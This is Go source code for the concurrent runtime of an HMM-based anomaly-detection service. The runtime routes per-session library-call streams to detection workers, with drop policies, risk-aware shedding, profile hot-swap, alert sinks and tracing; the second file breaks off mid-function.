func (rt *Runtime) Session(id string) *Session {
	rt.mu.RLock()
	s := rt.sessions[id]
	rt.mu.RUnlock()
	if s != nil {
		return s
	}
	rt.mu.Lock()
	defer rt.mu.Unlock()
	if s = rt.sessions[id]; s != nil {
		return s
	}
	var h maphash.Hash
	h.SetSeed(rt.seed)
	h.WriteString(id)
	s = &Session{rt: rt, id: id, worker: int(h.Sum64() % uint64(len(rt.queues)))}
	if !rt.closed {
		rt.sessions[id] = s
		rt.ctr.SessionOpened()
	} else {
		s.closed = true
	}
	return s
}

// ID returns the session's identifier.
func (s *Session) ID() string { return s.id }

// Observe enqueues one call for detection. Under the Block policy it waits
// for queue space (backpressure); under DropNewest a full queue sheds the
// call and returns ErrDropped. A closed session or runtime returns
// ErrClosed.
func (s *Session) Observe(c collector.Call) error {
	return s.send(op{s: s, call: c, kind: opObserve})
}

// ObserveTrace replays one whole collected execution through the session and
// returns the session's full alert history after judging the trace's final
// short window — the concurrent counterpart of Monitor.ObserveTrace. The
// session stays open for further traces.
func (s *Session) ObserveTrace(tr collector.Trace) ([]detect.Alert, error) {
	for _, c := range tr {
		if err := s.Observe(c); err != nil && !errors.Is(err, ErrDropped) {
			return nil, err
		}
	}
	return s.Flush()
}

// Flush waits for every call enqueued so far to be scored, judges a pending
// short window (a stream shorter than the window length), resets the sliding
// window so the next trace starts clean, and returns the session's full
// alert history.
func (s *Session) Flush() ([]detect.Alert, error) {
	done := make(chan []detect.Alert, 1)
	if err := s.send(op{s: s, kind: opFlush, done: done}); err != nil {
		return nil, err
	}
	return <-done, nil
}

// Close flushes the session, returns its full alert history, removes it from
// the runtime, and recycles its engine. Further calls return ErrClosed.
func (s *Session) Close() ([]detect.Alert, error) {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil, ErrClosed
	}
	s.closed = true
	s.mu.Unlock()

	done := make(chan []detect.Alert, 1)
	// The session is already marked closed, so bypass the closed check.
	if err := s.rt.enqueue(s.worker, op{s: s, kind: opClose, done: done}, true); err != nil {
		return nil, err
	}
	alerts := <-done

	s.rt.mu.Lock()
	if s.rt.sessions[s.id] == s {
		delete(s.rt.sessions, s.id)
	}
	s.rt.mu.Unlock()
	s.rt.ctr.SessionClosed()
	return alerts, nil
}

func (s *Session) isClosed() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.closed
}

func (s *Session) send(o op) error {
	if s.isClosed() {
		return ErrClosed
	}
	return s.rt.enqueue(s.worker, o, o.kind != opObserve)
}

// enqueue routes an op to a worker queue. Control ops (flush/close) always
// block: they are rare, small, and their reply channel must be served.
func (rt *Runtime) enqueue(worker int, o op, control bool) error {
	rt.mu.RLock()
	defer rt.mu.RUnlock()
	if rt.closed {
		return ErrClosed
	}
	q := rt.queues[worker]
	if !control && rt.cfg.policy == DropNewest {
		select {
		case q <- o:
			return nil
		default:
			rt.ctr.AddDropped(1)
			return ErrDropped
		}
	}
	q <- o
	return nil
}

func (rt *Runtime) worker(q chan op) {
	defer rt.wg.Done()
	for o := range q {
		s := o.s
		if s.dead {
			// An op that raced with Close and was enqueued behind the close
			// op must not resurrect an engine on the dead session.
			if o.kind == opObserve {
				rt.ctr.AddDropped(1)
			}
			if o.done != nil {
				o.done <- nil
			}
			continue
		}
		if s.engine == nil {
			e := rt.pool.Get().(*detect.Engine)
			e.Reset()
			if rt.cfg.threshold != nil {
				e.SetThreshold(*rt.cfg.threshold)
			}
			if rt.cfg.windowLen > 0 {
				e.SetWindowLen(rt.cfg.windowLen)
			}
			s.engine = e
		}
		switch o.kind {
		case opObserve:
			start := time.Now()
			alerts := s.engine.Observe(o.call)
			rt.ctr.AddCall(time.Since(start).Nanoseconds())
			rt.deliver(s.id, alerts)
		case opFlush, opClose:
			before := len(s.engine.Alerts())
			history := s.engine.Flush()
			rt.deliver(s.id, history[before:])
			// Windows never straddle traces: the next stream starts clean.
			s.engine.ResetWindow()
			out := make([]detect.Alert, len(history))
			copy(out, history)
			if o.kind == opClose {
				eng := s.engine
				s.engine = nil
				s.dead = true
				rt.pool.Put(eng)
			}
			o.done <- out
		}
	}
}

func (rt *Runtime) deliver(session string, alerts []detect.Alert) {
	for _, a := range alerts {
		rt.ctr.AddAlert(int(a.Flag))
	}
	if rt.cfg.sink != nil {
		for _, a := range alerts {
			rt.cfg.sink(session, a)
		}
	}
}

// Close flushes every open session's partial window, drains the workers, and
// stops them. The runtime accepts no calls afterwards. Close is idempotent;
// concurrent Observes racing with Close either complete or return ErrClosed.
func (rt *Runtime) Close() error {
	rt.mu.Lock()
	if rt.closed {
		rt.mu.Unlock()
		return nil
	}
	open := make([]*Session, 0, len(rt.sessions))
	for _, s := range rt.sessions {
		open = append(open, s)
	}
	rt.mu.Unlock()

	// Flush sessions while ingest is still accepted, so their partial
	// windows are judged and delivered to the sink.
	for _, s := range open {
		_, _ = s.Close()
	}

	rt.mu.Lock()
	rt.closed = true
	rt.mu.Unlock()
	for _, q := range rt.queues {
		close(q)
	}
	rt.wg.Wait()
	return nil
}

// Stats is a point-in-time snapshot of the runtime's health.
type Stats struct {
	// Calls scored, and calls shed by DropNewest.
	Calls, Dropped uint64
	// Alerts raised, by detect.Flag value.
	Alerts [metrics.NumFlags]uint64
	// QueueDepth is the number of calls currently waiting across all worker
	// queues; Workers and QueueCap describe capacity.
	QueueDepth int
	Workers    int
	QueueCap   int
	// ActiveSessions / SessionsOpened count session churn.
	ActiveSessions int64
	SessionsOpened uint64
	// AvgLatency is the mean engine-side processing time per call.
	AvgLatency time.Duration
}

// AlertTotal sums the per-flag alert counts.
func (s Stats) AlertTotal() uint64 {
	var t uint64
	for _, v := range s.Alerts {
		t += v
	}
	return t
}

func (s Stats) String() string {
	return fmt.Sprintf(
		"calls=%d dropped=%d alerts=%d (anomalous=%d dl=%d ooc=%d) sessions=%d/%d queue=%d/%d×%d avg=%s",
		s.Calls, s.Dropped, s.AlertTotal(),
		s.Alerts[int(detect.FlagAnomalous)], s.Alerts[int(detect.FlagDL)], s.Alerts[int(detect.FlagOutOfContext)],
		s.ActiveSessions, s.SessionsOpened, s.QueueDepth, s.Workers, s.QueueCap, s.AvgLatency)
}

// Stats snapshots the runtime's counters and gauges.
func (rt *Runtime) Stats() Stats {
	snap := rt.ctr.Snapshot()
	st := Stats{
		Calls:          snap.Calls,
		Dropped:        snap.Dropped,
		Alerts:         snap.Alerts,
		Workers:        rt.cfg.workers,
		QueueCap:       rt.cfg.queueDepth,
		ActiveSessions: snap.ActiveSessions,
		SessionsOpened: snap.SessionsOpened,
		AvgLatency:     time.Duration(snap.AvgLatencyNanos()),
	}
	rt.mu.RLock()
	for _, q := range rt.queues {
		st.QueueDepth += len(q)
	}
	rt.mu.RUnlock()
	return st
}
