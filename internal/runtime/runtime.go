// Package runtime multiplexes many concurrent per-session library-call
// streams onto a pool of detection workers sharing one Profile — the serving
// layer that turns the paper's one-program Detection Engine into a system
// that can monitor heavy traffic from many clients at once.
//
// # Model
//
//   - A Runtime owns W workers. Each worker owns one bounded ingest queue
//     and runs detection for the sessions assigned to it.
//   - A Session is one monitored call stream (one program execution, one
//     connection, one tenant — whatever the caller keys it by). Sessions are
//     created on first use by Runtime.Session(id) and pinned to a worker by
//     hashing the id, so every session's calls are processed in FIFO order
//     with no per-call locking; different sessions proceed in parallel.
//   - Each session scores windows with a detect.Engine over the shared
//     read-only profile. Engines maintain the HMM forward variables
//     incrementally (hmm.StreamScorer) and are recycled through a sync.Pool
//     when sessions close, so steady-state session churn does not allocate.
//   - Ingest queues are bounded. Under pressure the configured DropPolicy
//     either applies backpressure (Block, the default — Observe waits for
//     queue space), sheds the newest call (DropNewest, counted in Stats), or
//     sheds by session risk (ShedByRisk): an admission controller keyed to
//     queue occupancy thins low-risk sessions probabilistically while
//     sessions with recent alerts, drifting scores, or sensitive-data
//     touches are always scored. See the internal/shed package doc for the
//     risk model, hysteresis, and the estimated-miss-probability metric.
//   - Close flushes every open session (judging partial windows, like
//     Engine.Flush), waits for the workers to drain, and stops them.
//
// # Failure model
//
// The runtime is designed to keep monitoring when individual components
// misbehave:
//
//   - Worker supervision. Every op runs under panic recovery. A recovered
//     panic quarantines only the offending session: its pending control ops
//     get an error reply, subsequent ops return ErrSessionFailed (the cause
//     is available via Session.Err), and the worker keeps serving its other
//     sessions. If the worker goroutine itself dies (a panic outside the
//     per-op recovery), a supervisor restarts it with capped exponential
//     backoff; restarts surface in Stats.WorkerRestarts.
//   - Deadline-aware ingest. ObserveContext, FlushContext, ObserveTraceContext,
//     Session.CloseContext and Runtime.CloseContext bound Block-policy
//     backpressure and shutdown drain by the caller's context instead of
//     hanging forever; the plain forms are context.Background wrappers.
//   - Sink isolation. Alerts reach the user's AlertFunc through a bounded
//     async dispatcher with a per-delivery handoff timeout, panic recovery,
//     and a drop-and-count overflow policy, so a slow or crashing sink never
//     stalls detection workers. Sink failures appear in Stats.SinkPanics and
//     shed deliveries in Stats.SinkDropped.
//
// # Profile generations and hot-swap
//
// The serving profile is versioned: the runtime starts at generation 1 and
// SwapProfile atomically publishes a retrained profile as generation N+1
// with zero downtime. The swap protocol keeps detection correct without any
// locking on the hot path:
//
//   - Each session's engine is tagged with the generation it was built over.
//     In-flight windows always finish scoring against that generation — an
//     engine is never rebound mid-stream.
//   - Sessions upgrade at trace boundaries only: when a Flush (or
//     ObserveTrace completing) resets the sliding window and a newer
//     generation exists, the worker retires the session's engine, builds one
//     over the new profile, and carries the alert history and sequence
//     counter over (detect.Engine.Adopt). Every window therefore scores
//     entirely on exactly one generation.
//   - Pooled engines are invalidated by generation: a recycled engine whose
//     generation is stale is discarded (counted in Stats.EnginesRetired)
//     instead of being reused against the wrong model.
//
// Atomic counters (calls, drops, alerts by flag, queue depth, per-call
// latency, panics, restarts, quarantines, sink losses, swaps, retired
// engines) are kept in a metrics.Counters and exposed as a Stats snapshot.
package runtime

import (
	"context"
	"errors"
	"fmt"
	"hash/maphash"
	"log/slog"
	"math"
	stdruntime "runtime"
	"sync"
	"sync/atomic"
	"time"

	"adprom/internal/collector"
	"adprom/internal/detect"
	"adprom/internal/hmm"
	"adprom/internal/metrics"
	"adprom/internal/obsv"
	"adprom/internal/profile"
	"adprom/internal/shed"
	"adprom/internal/sqlchan"
	"adprom/internal/trace"
)

// Errors returned by the ingest path.
var (
	// ErrClosed reports an Observe/Flush on a closed runtime or session.
	ErrClosed = errors.New("runtime: closed")
	// ErrDropped reports a call shed by the DropNewest policy.
	ErrDropped = errors.New("runtime: call dropped: queue full")
	// ErrSessionFailed reports an op on a quarantined session — one whose
	// engine, judge hook, or worker panicked (or whose judge hook returned an
	// error) while processing its stream. The quarantine cause is attached to
	// the returned error and available via Session.Err; other sessions are
	// unaffected. Close a failed session to release its slot.
	ErrSessionFailed = errors.New("runtime: session failed")
	// ErrShed reports a call rejected by the risk-aware admission controller
	// (ShedByRisk). It matches errors.Is(err, ErrDropped) so callers that
	// already classify DropNewest losses handle risk-aware sheds the same
	// way, while errors.Is(err, ErrShed) distinguishes a deliberate,
	// risk-ranked rejection from a blind queue-full drop.
	ErrShed error = shedSentinel{}
)

// shedSentinel gives ErrShed its own identity while still matching
// ErrDropped under errors.Is.
type shedSentinel struct{}

func (shedSentinel) Error() string        { return "runtime: call shed: risk-aware admission" }
func (shedSentinel) Is(target error) bool { return target == ErrDropped }

// BatchShedError reports a batch that was partially or fully rejected: Shed
// of Batch calls were not enqueued (the admitted prefix, if any, is already
// queued in order). It unwraps to ErrDropped under DropNewest and to ErrShed
// under ShedByRisk, so existing errors.Is(err, ErrDropped) checks keep
// working while callers that need exact accounting read the counts with
// errors.As.
type BatchShedError struct {
	// Shed is how many of the batch's Batch calls were rejected; the first
	// Batch−Shed calls were admitted.
	Shed  int
	Batch int
	cause error
}

func (e *BatchShedError) Error() string {
	return fmt.Sprintf("%v (%d of %d batch calls shed)", e.cause, e.Shed, e.Batch)
}

func (e *BatchShedError) Unwrap() error { return e.cause }

// Supervised worker restarts back off exponentially from restartBackoffBase,
// doubling per consecutive crash up to restartBackoffCap.
const (
	restartBackoffBase = time.Millisecond
	restartBackoffCap  = 100 * time.Millisecond
)

// DropPolicy selects the behaviour of a full ingest queue.
type DropPolicy int

const (
	// Block applies backpressure: Observe waits until the worker drains.
	Block DropPolicy = iota
	// DropNewest sheds the incoming call, counts it, and returns ErrDropped.
	DropNewest
	// ShedByRisk sheds by session risk instead of arrival order: when a
	// worker's queue saturates, low-risk sessions are thinned
	// probabilistically (deterministically, given shed.Config.Seed) while
	// sessions with recent alerts, drifting scores, or sensitive-data
	// touches are always scored — with blocking backpressure if necessary.
	// Rejected calls return ErrShed and are counted in Stats.Shed. Tune with
	// WithShedConfig.
	ShedByRisk
)

func (p DropPolicy) String() string {
	switch p {
	case Block:
		return "block"
	case DropNewest:
		return "drop-newest"
	case ShedByRisk:
		return "shed-by-risk"
	default:
		return fmt.Sprintf("DropPolicy(%d)", int(p))
	}
}

// AlertFunc receives every alert raised by any session, tagged with the
// session id. Delivery is asynchronous: workers hand alerts to a bounded
// dispatcher, so a slow or panicking implementation cannot stall detection —
// it only causes deliveries to be shed (counted in Stats.SinkDropped) or
// panics to be counted (Stats.SinkPanics). Implementations are invoked from
// a single dispatcher goroutine, one alert at a time.
type AlertFunc func(session string, a detect.Alert)

// JudgeHook observes every completed-window judgement of every session: the
// session id, the window's closing sequence number, its per-symbol score,
// and whether it was flagged. Returning a non-nil error quarantines the
// session (ErrSessionFailed wrapping the cause); a panic does the same via
// the worker's per-op recovery. It runs on worker goroutines and must be
// safe for concurrent use. Intended for fault injection and external
// circuit-breaker policies.
type JudgeHook func(session string, seq int, score float64, flagged bool) error

// JudgeObserver passively observes every completed-window judgement. Unlike
// JudgeHook it cannot veto: it has no error return, so it can never
// quarantine a session by policy (a panic inside it still counts as an
// engine panic and quarantines the session whose judgement it was observing).
// It runs on worker goroutines before the JudgeHook, must be cheap, and must
// be safe for concurrent use — the profile-lifecycle drift estimator is the
// intended consumer. at is the op's single clock capture: the worker reads
// time.Now once per observed call and threads the same timestamp through the
// latency histogram, the provenance Decision, and every observer, so
// downstream samplers never re-read the clock on the hot path.
type JudgeObserver func(session string, seq int, at time.Time, score float64, flagged bool)

// WorkerHook runs on the worker goroutine before each op, *outside* the
// per-op panic recovery: a panic here kills the worker itself, exercising
// supervised restart. It exists for fault injection and latency injection in
// chaos tests; production configurations should leave it nil.
type WorkerHook func(worker int, session string)

type config struct {
	workers       int
	queueDepth    int
	policy        DropPolicy
	sink          AlertFunc
	sinkBuffer    int
	sinkTimeout   time.Duration
	judgeHook     JudgeHook
	observer      JudgeObserver
	workerHook    WorkerHook
	threshold     *float64
	windowLen     int
	scorerMode    hmm.ScorerMode
	attach        []func(*Runtime)
	logger        *slog.Logger
	decisionCap   int
	decisionEvery int
	shedCfg       *shed.Config
	sqlProfile    *sqlchan.Profile
	fusion        detect.FusionConfig
	traceCap      int
	traceEvery    int
}

// Option configures a Runtime.
type Option func(*config)

// Options bundles several options into one, applying them in order (nils are
// skipped) — the composition seam for facade options that expand to more
// than one runtime option.
func Options(opts ...Option) Option {
	return func(c *config) {
		for _, o := range opts {
			if o != nil {
				o(c)
			}
		}
	}
}

// WithWorkers sets the number of detection workers (default GOMAXPROCS).
func WithWorkers(n int) Option {
	return func(c *config) {
		if n > 0 {
			c.workers = n
		}
	}
}

// WithQueueDepth bounds each worker's ingest queue (default 256).
func WithQueueDepth(d int) Option {
	return func(c *config) {
		if d > 0 {
			c.queueDepth = d
		}
	}
}

// WithDropPolicy selects backpressure (Block), newest-call shedding
// (DropNewest), or risk-aware shedding (ShedByRisk; tune with
// WithShedConfig).
func WithDropPolicy(p DropPolicy) Option {
	return func(c *config) { c.policy = p }
}

// WithShedConfig tunes the risk-aware admission controller — watermarks,
// guarantee band, risk-signal memories, deterministic seed, sensitive labels
// (see shed.Config) — and selects the ShedByRisk policy. Zero fields keep
// their documented defaults, so WithDropPolicy(ShedByRisk) alone is a valid
// configuration.
func WithShedConfig(sc shed.Config) Option {
	return func(c *config) {
		c.policy = ShedByRisk
		c.shedCfg = &sc
	}
}

// WithAlertFunc routes every session's alerts to fn through the async sink
// dispatcher.
func WithAlertFunc(fn AlertFunc) Option {
	return func(c *config) { c.sink = fn }
}

// WithSinkBuffer bounds the async sink dispatcher's queue (default 1024).
// When the buffer is full, further alerts are shed and counted in
// Stats.SinkDropped rather than blocking workers.
func WithSinkBuffer(n int) Option {
	return func(c *config) {
		if n > 0 {
			c.sinkBuffer = n
		}
	}
}

// WithSinkTimeout bounds how long the dispatcher waits for the sink to
// accept each delivery (default 1s). Alerts that cannot be handed off in
// time — because the sink is still busy with the previous one — are shed and
// counted in Stats.SinkDropped.
func WithSinkTimeout(d time.Duration) Option {
	return func(c *config) {
		if d > 0 {
			c.sinkTimeout = d
		}
	}
}

// WithJudgeHook installs fn as every session engine's judge hook; see
// JudgeHook for the quarantine semantics.
func WithJudgeHook(fn JudgeHook) Option {
	return func(c *config) { c.judgeHook = fn }
}

// WithJudgeObserver installs fn as a passive tap on every session's
// completed-window judgements; see JudgeObserver. It composes with (and runs
// before) any WithJudgeHook.
func WithJudgeObserver(fn JudgeObserver) Option {
	return func(c *config) { c.observer = fn }
}

// WithAttach registers fn to run against the fully constructed Runtime just
// before New returns — the seam components like the lifecycle manager use to
// bind themselves to the runtime they are configured into.
func WithAttach(fn func(*Runtime)) Option {
	return func(c *config) {
		if fn != nil {
			c.attach = append(c.attach, fn)
		}
	}
}

// WithLogger installs a structured event logger: worker restarts, session
// quarantines, and profile swaps — state transitions that were previously
// silent — are emitted as slog records. The logger is never called on the
// per-call hot path; nil (the default) disables event logging entirely.
func WithLogger(l *slog.Logger) Option {
	return func(c *config) { c.logger = l }
}

// WithDecisionLog sizes the decision-provenance ring: the runtime retains the
// last capacity judgement records (default 1024), sampling one in sampleEvery
// unflagged judgements (default 16) while always recording alerts. capacity
// < 0 disables provenance entirely, 0 keeps the default; sampleEvery 1
// records every judgement, ≤ 0 keeps the default. Read the ring with
// Runtime.Decisions.
func WithDecisionLog(capacity, sampleEvery int) Option {
	return func(c *config) {
		if capacity != 0 {
			c.decisionCap = capacity
		}
		if sampleEvery > 0 {
			c.decisionEvery = sampleEvery
		}
	}
}

// WithTracing enables end-to-end decision tracing: every observe op builds a
// trace (root span, shed admission, engine scoring with per-channel judgement
// and fusion spans, async sink delivery) and the runtime retains up to
// capacity healthy traces plus up to capacity alert traces, sampling one in
// sampleEvery healthy traces at commit while always keeping alert-bearing
// ones — the same retention bias as the decision ring. capacity ≤ 0 (the
// default) disables tracing entirely: no trace is ever built, the hot path
// only pays a nil check, and the decision log stays bit-identical to a
// trace-free build. sampleEvery ≤ 1 keeps every healthy trace. Read traces
// with Runtime.Traces / Runtime.TraceByID or the /traces endpoints.
func WithTracing(capacity, sampleEvery int) Option {
	return func(c *config) {
		c.traceCap = capacity
		c.traceEvery = sampleEvery
	}
}

// WithWorkerHook installs fn on the worker loop; see WorkerHook. Test-only.
func WithWorkerHook(fn WorkerHook) Option {
	return func(c *config) { c.workerHook = fn }
}

// WithThreshold overrides the profile's detection threshold for every
// session.
func WithThreshold(t float64) Option {
	return func(c *config) { c.threshold = &t }
}

// WithWindowLen overrides the profile's window length for every session.
func WithWindowLen(n int) Option {
	return func(c *config) {
		if n > 0 {
			c.windowLen = n
		}
	}
}

// WithSQLChannel attaches the SQL-behaviour detection channel: every session
// engine gets its own sqlchan.Scorer over the trained profile, judged
// alongside the HMM under the configured fusion rule (see WithFusion; the
// default is equal weights with a 0.05 escalation slack). Pass nil to keep
// the runtime single-channel.
func WithSQLChannel(p *sqlchan.Profile) Option {
	return func(c *config) { c.sqlProfile = p }
}

// WithFusion tunes the channel-fusion rule applied when an SQL channel is
// attached (no effect without WithSQLChannel). Zero fields keep the
// documented detect.FusionConfig defaults.
func WithFusion(fc detect.FusionConfig) Option {
	return func(c *config) { c.fusion = fc }
}

// WithScorerMode selects the HMM scoring kernel every session's engine runs:
// hmm.ScorerExact (the default, bit-identical to the batch forward pass) or
// hmm.ScorerTopK(k), which prunes each transition row to its k largest
// entries and attaches a sound per-window error bound to every alert
// (detect.Alert.ScoreErrorBound).
func WithScorerMode(m hmm.ScorerMode) Option {
	return func(c *config) { c.scorerMode = m }
}

// generation is one immutable (profile, version) pair. The runtime's current
// generation is published through an atomic pointer; workers read it without
// locking and never mutate it.
type generation struct {
	p   *profile.Profile
	gen uint64
}

// pooledEngine tags a recycled detect.Engine with the generation it was built
// over, so the pool never hands an engine bound to a superseded profile to a
// new session.
type pooledEngine struct {
	gen uint64
	e   *detect.Engine
}

// Runtime is a concurrent multi-stream detection service over one shared
// profile. Create with New, feed with Session(...).Observe, stop with Close.
// SwapProfile replaces the serving profile atomically; see the package doc's
// hot-swap section for the generation protocol.
type Runtime struct {
	cur  atomic.Pointer[generation]
	cfg  config
	seed maphash.Seed

	queues []chan op
	wg     sync.WaitGroup

	// pending tracks the calls offered to each worker and not yet dequeued —
	// the call-granularity ledger behind partial batch admission, the
	// per-worker depth gauges, and ShedByRisk's occupancy signal. Producers
	// add on enqueue; the worker (or the shutdown drain) subtracts on
	// dequeue.
	pending []atomic.Int64

	// shed is the risk-aware admission controller, non-nil only under the
	// ShedByRisk policy.
	shed *shed.Controller

	// stopped is closed when workers must abandon ingest (shutdown); senders
	// and reply-waiters select on it so nothing hangs past Close.
	stopped  chan struct{}
	stopOnce sync.Once
	closeMu  sync.Mutex // serialises Close/CloseContext

	mu       sync.RWMutex // guards sessions map and draining/closed flags
	sessions map[string]*Session
	draining bool // no new session registrations (Close has begun)
	closed   bool // no ingest at all

	// Async sink pipeline (nil alertq when no sink is configured): workers
	// enqueue into alertq without blocking; the dispatcher hands each alert
	// to the deliverer within sinkTimeout or sheds it; the deliverer invokes
	// the user sink under panic recovery.
	alertq  chan alertMsg
	handoff chan alertMsg
	sinkWG  sync.WaitGroup

	pool   sync.Pool // *pooledEngine, each tagged with its generation
	ctr    metrics.Counters
	rec    *obsv.Recorder // decision provenance; nil-safe, Enabled gates use
	traces *trace.Store   // decision traces; nil when tracing is disabled
}

type alertMsg struct {
	session string
	alert   detect.Alert
	// gen and ta carry the judging generation and the op's live trace into
	// the async sink pipeline; ta holds one reference, released after the
	// sink span is recorded (or the delivery is shed).
	gen uint64
	ta  *trace.Active
}

type opKind int

const (
	opObserve      opKind = iota
	opObserveBatch        // score a run of calls from one stream in one pass
	opFlush               // judge partial window, reply with history, reset window
	opClose               // opFlush + recycle the engine
)

type reply struct {
	alerts []detect.Alert
	err    error
}

type op struct {
	s       *Session
	call    collector.Call
	calls   []collector.Call // opObserveBatch only; owned by the op
	kind    opKind
	done    chan reply // buffered(1); at most one send (guarded by replied)
	replied bool
	// ta is the op's live decision trace (nil when tracing is off). Ownership
	// transfers to the worker once the op is enqueued; finishTrace closes it
	// exactly once on whichever path ends the op.
	ta *trace.Active
}

func (o *op) reply(r reply) {
	if o.done != nil && !o.replied {
		o.replied = true
		o.done <- r
	}
}

// finishTrace closes the op's trace exactly once (idempotent through the
// cleared pointer), so normal completion, shutdown drain, and crash-recovery
// paths never double-finish.
func (o *op) finishTrace() {
	if o.ta != nil {
		o.ta.Finish()
		o.ta = nil
	}
}

// callCount returns how many monitored calls the op carries (0 for control
// ops) — the unit Dropped counts in.
func (o *op) callCount() uint64 {
	switch o.kind {
	case opObserve:
		return 1
	case opObserveBatch:
		return uint64(len(o.calls))
	default:
		return 0
	}
}

// Session is one monitored call stream. All its calls are scored in FIFO
// order on a single worker; the handle itself may be shared, but calls from
// multiple goroutines into one session interleave without ordering
// guarantees (use one producer per session for deterministic replay).
type Session struct {
	rt     *Runtime
	id     string
	worker int

	mu      sync.Mutex
	closed  bool
	failure error // ErrSessionFailed wrapping the quarantine cause

	// engine, gen, dead, and opTime are owned by the worker goroutine: engine
	// is created on first op (over the then-current generation, recorded in
	// gen), dead is set once the close op has been processed, and opTime is
	// the single clock capture of the op currently being processed — the one
	// timestamp shared by the latency histogram, the judge-hook observers,
	// and the provenance Decision record.
	engine *detect.Engine
	gen    uint64
	dead   bool
	opTime time.Time

	// lastGen mirrors gen for readers outside the worker: it is stored by the
	// worker before each op is scored, so after a synchronous Flush returns,
	// Generation reports the generation that scored the flushed trace.
	lastGen atomic.Uint64

	// risk is the session's shed-tier state (nil unless the runtime runs
	// ShedByRisk). sensSeen is the engine's sensitive-touch count already
	// folded into risk — worker-owned, like engine.
	risk     *shed.SessionRisk
	sensSeen int

	// curTrace, scoreSpan, and judgeSpans are worker-owned tracing state for
	// the op currently being scored: the op's live trace (nil for untraced
	// ops), the span ID of its engine-scoring span (the parent of per-channel
	// judgement spans), and how many full judgement spans the op has emitted.
	// The per-window judgement summary itself is aggregated inside the
	// engine (detect.TraceSummary) so healthy windows never cross the hook.
	curTrace   *trace.Active
	scoreSpan  uint64
	judgeSpans int
}

// maxJudgementSpans caps the full score.<channel>/fusion spans one op may
// emit. The first flagged windows of an op get complete judgement spans;
// later ones still fold into the score summary (and each still records its
// own alert Decision), so an alert-dense batch costs bounded span
// construction instead of one allocation per flagged window.
const maxJudgementSpans = 4

// Generation reports the profile generation that scored the session's most
// recently processed op (0 before any call reached the worker). Because
// sessions only change generation at trace boundaries, the value read after a
// Flush returns names the single generation that scored the whole trace.
func (s *Session) Generation() uint64 { return s.lastGen.Load() }

// ShedCalls reports how many of this session's calls the risk-aware
// admission controller has rejected so far (always 0 under Block and
// DropNewest).
func (s *Session) ShedCalls() uint64 {
	if s.risk == nil {
		return 0
	}
	return s.risk.ShedCalls()
}

// New builds a runtime over a trained profile. The profile becomes generation
// 1 and is treated as immutable from this point on: publish retrained models
// through SwapProfile, never by mutating a served profile in place.
func New(p *profile.Profile, opts ...Option) *Runtime {
	cfg := config{
		workers:       stdruntime.GOMAXPROCS(0),
		queueDepth:    256,
		sinkBuffer:    1024,
		sinkTimeout:   time.Second,
		decisionCap:   1024,
		decisionEvery: 16,
	}
	for _, o := range opts {
		if o != nil {
			o(&cfg)
		}
	}
	rt := &Runtime{
		cfg:      cfg,
		seed:     maphash.MakeSeed(),
		queues:   make([]chan op, cfg.workers),
		pending:  make([]atomic.Int64, cfg.workers),
		sessions: make(map[string]*Session),
		stopped:  make(chan struct{}),
		rec:      obsv.NewRecorder(cfg.decisionCap, cfg.decisionEvery),
		traces:   trace.NewStore(cfg.traceCap, cfg.traceEvery),
	}
	if cfg.policy == ShedByRisk {
		var sc shed.Config
		if cfg.shedCfg != nil {
			sc = *cfg.shedCfg
		}
		rt.shed = shed.New(sc, cfg.workers)
	}
	rt.cur.Store(&generation{p: p, gen: 1})
	rt.pool.New = func() any {
		g := rt.cur.Load()
		return &pooledEngine{gen: g.gen, e: detect.NewEngine(g.p)}
	}
	// Force the shared scorer for the configured mode into existence before
	// any worker races to use it (Profile.ScorerFor caches per mode anyway;
	// this keeps first-call latency out of the serving path).
	p.ScorerFor(cfg.scorerMode)
	if cfg.sink != nil {
		rt.alertq = make(chan alertMsg, cfg.sinkBuffer)
		rt.handoff = make(chan alertMsg)
		rt.sinkWG.Add(2)
		go rt.dispatchLoop()
		go rt.deliverLoop()
	}
	for i := range rt.queues {
		rt.queues[i] = make(chan op, cfg.queueDepth)
		rt.wg.Add(1)
		go rt.supervise(i)
	}
	for _, fn := range cfg.attach {
		fn(rt)
	}
	return rt
}

// Profile returns the profile currently serving (the newest generation).
// Sessions mid-trace may still be scoring against an older one.
func (rt *Runtime) Profile() *profile.Profile { return rt.cur.Load().p }

// Generation returns the current profile generation number, starting at 1 and
// incremented by every successful SwapProfile.
func (rt *Runtime) Generation() uint64 { return rt.cur.Load().gen }

// SwapProfile atomically publishes next as the new serving profile and
// returns its generation number. The swap is zero-downtime: no ingest is
// paused, in-flight windows finish scoring against the generation they
// started on, and each session upgrades (keeping its alert history) at its
// next trace boundary. The next profile must be trained and must use the
// same window length discipline as its predecessor's consumers expect; a nil
// profile or one without a model is rejected. Safe for concurrent use with
// ingest and with other SwapProfile calls.
func (rt *Runtime) SwapProfile(next *profile.Profile) (uint64, error) {
	if next == nil || next.Model == nil {
		return 0, errors.New("runtime: SwapProfile: profile is nil or untrained")
	}
	rt.mu.RLock()
	closed := rt.closed
	rt.mu.RUnlock()
	if closed {
		return 0, ErrClosed
	}
	// Materialise the read-only scoring view before publication so the first
	// session to upgrade does not pay for it on the serving path.
	next.ScorerFor(rt.cfg.scorerMode)
	for {
		old := rt.cur.Load()
		g := &generation{p: next, gen: old.gen + 1}
		if rt.cur.CompareAndSwap(old, g) {
			rt.ctr.AddSwap()
			if l := rt.cfg.logger; l != nil {
				l.Info("profile swapped",
					"generation", g.gen,
					"threshold", next.Threshold,
					"window_len", next.WindowLen)
			}
			return g.gen, nil
		}
	}
}

// Session returns the session registered under id, creating it if needed.
// Once Close has begun (the runtime is draining) new ids are refused: the
// returned session is already closed and every op on it reports ErrClosed.
func (rt *Runtime) Session(id string) *Session {
	rt.mu.RLock()
	s := rt.sessions[id]
	rt.mu.RUnlock()
	if s != nil {
		return s
	}
	rt.mu.Lock()
	defer rt.mu.Unlock()
	if s = rt.sessions[id]; s != nil {
		return s
	}
	var h maphash.Hash
	h.SetSeed(rt.seed)
	h.WriteString(id)
	s = &Session{rt: rt, id: id, worker: int(h.Sum64() % uint64(len(rt.queues)))}
	if rt.shed != nil {
		s.risk = rt.shed.NewSession(id)
	}
	if rt.draining || rt.closed {
		s.closed = true
		return s
	}
	rt.sessions[id] = s
	rt.ctr.SessionOpened()
	return s
}

// LookupSession returns the session registered under id without creating
// one — the non-allocating existence probe quota enforcement (the tenant
// router's per-tenant session cap) needs before deciding whether a Session
// call would admit a new stream.
func (rt *Runtime) LookupSession(id string) (*Session, bool) {
